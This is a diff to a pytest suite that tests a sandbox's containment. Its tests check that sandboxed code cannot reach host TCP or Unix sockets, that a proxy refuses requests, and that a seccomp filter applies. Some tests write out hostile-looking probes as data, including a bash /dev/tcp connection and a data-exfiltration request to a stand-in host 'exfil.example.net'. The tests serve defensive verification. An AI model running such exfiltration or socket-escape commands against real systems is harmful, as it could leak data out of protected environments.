@@ -19,7 +19,7 @@ import time
 
 import pytest
 
-from .sandbox_util import (CLI, SECRET_DOTENV, SECRET_ENV, SECRET_FILE, TcpSpy, UnixSpy,
+from .sandbox_util import (CLI, INNER_PY, SECRET_DOTENV, SECRET_ENV, SECRET_FILE, TcpSpy, UnixSpy,
                            host_pids_with, make_box)
 
 pytestmark = [
@@ -133,7 +133,7 @@ def test_host_loopback_tcp_is_unreachable(box, profile):
             "    print('FETCHED')\n"
             "except Exception as e:\n"
             "    print('fetch failed', e)\n")
-        r = box.run(profile, "--", sys.executable, "-I", "-c", script)
+        r = box.run(profile, "--", INNER_PY, "-I", "-c", script)
         bash = box.run(profile, "-c", f"echo x > /dev/tcp/127.0.0.1/{spy.port}; exit 0")
         assert spy.accepted == []
         _control(spy, ("127.0.0.1", spy.port), socket.AF_INET)
@@ -153,7 +153,7 @@ def test_host_unix_sockets_are_unreachable(box, profile):
                   "s = socket.socket(socket.AF_UNIX)\n"
                   f"s.connect({path!r})\n"
                   "print('CONNECTED')\n")
-        r = box.run(profile, "--", sys.executable, "-I", "-c", script)
+        r = box.run(profile, "--", INNER_PY, "-I", "-c", script)
         assert spy.accepted == []
         _control(spy, path, socket.AF_UNIX)
     finally:
@@ -172,7 +172,7 @@ def test_host_abstract_unix_sockets_are_unreachable(box, profile):
                   "s = socket.socket(socket.AF_UNIX)\n"
                   f"s.connect({name!r})\n"
                   "print('CONNECTED')\n")
-        r = box.run(profile, "--", sys.executable, "-I", "-c", script)
+        r = box.run(profile, "--", INNER_PY, "-I", "-c", script)
         assert spy.accepted == []
         _control(spy, name, socket.AF_UNIX)
     finally:
@@ -216,7 +216,7 @@ def test_observe_cannot_write_the_workspace(box):
 def test_real_work_runs(box, profile):
     r = box.run(profile, "-c",
                 "echo built > out.txt && git status --short && "
-                f"{sys.executable} -I -c 'print(6*7)' && mkdir -p build/x && "
+                f"{INNER_PY} -I -c 'print(6*7)' && mkdir -p build/x && "
                 "echo t > /tmp/scratch && cat /tmp/scratch")
     assert r.returncode == 0, r.stderr
     assert (box.ws / "out.txt").read_text() == "built\n"
@@ -358,7 +358,7 @@ def _host_reaches(host: str, port: int) -> bool:
 def test_pip_download_from_the_allowlisted_registry_works_under_build(box):
     if not _host_reaches("pypi.org", 443):
         pytest.skip("this machine cannot reach pypi.org")
-    r = box.run("build", "--", sys.executable, "-m", "pip", "download", "--no-deps",
+    r = box.run("build", "--", INNER_PY, "-m", "pip", "download", "--no-deps",
                 "--disable-pip-version-check", "-q", "-d", "dl", "six==1.16.0", timeout=180)
     assert r.returncode == 0, r.stderr
     assert os.listdir(box.ws / "dl") == ["six-1.16.0-py2.py3-none-any.whl"]
@@ -372,7 +372,7 @@ def test_proxy_refusals_are_recorded_and_say_which_rule(box):
               "    urllib.request.urlopen('http://exfil.example.net/x?d=1', timeout=10)\n"
               "except urllib.error.HTTPError as e:\n"
               "    print(e.code, e.read().decode())\n")
-    res = run([sys.executable, "-I", "-c", script], profile="build", workspace=str(box.ws),
+    res = run([INNER_PY, "-I", "-c", script], profile="build", workspace=str(box.ws),
               env=box.env(), capture=True)
     assert res.exit_code == 0, res.stderr
     assert res.stdout.startswith(b"403 ")
@@ -391,7 +391,7 @@ def test_nothing_in_the_sandbox_runs_without_the_seccomp_filter(box, profile):
               "        continue\n"
               "    mode = status.split('Seccomp:')[1].split()[0]\n"
               "    print(pid, mode)\n")
-    r = box.run(profile, "--", sys.executable, "-I", "-c", script)
+    r = box.run(profile, "--", INNER_PY, "-I", "-c", script)
     assert r.returncode == 0, r.stderr
     modes = dict(line.split() for line in r.stdout.splitlines())
     assert len(modes) >= 2 and set(modes.values()) == {"2"}, modes
